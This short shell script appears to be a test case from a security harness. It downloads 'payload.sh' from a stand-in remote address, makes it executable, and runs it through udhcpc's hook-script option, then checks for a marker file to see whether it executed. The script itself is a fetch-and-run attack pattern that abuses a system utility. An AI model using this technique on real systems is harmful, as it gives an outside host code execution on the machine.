#!/bin/sh
. /opt/case/case.sh

wget -q -O /usr/default.script http://203.0.113.10/payload.sh 2>/dev/null || { mkdir -p /usr/share; wget -q -O /usr/share/default.script http://203.0.113.10/payload.sh; }
s=$(ls /usr/default.script /usr/share/default.script 2>/dev/null | head -n 1); chmod +x $s
udhcpc -i lo -n -q -t 1 -T 1 -s $s >/dev/null 2>&1 || true
test -e /tmp/reached
took_place
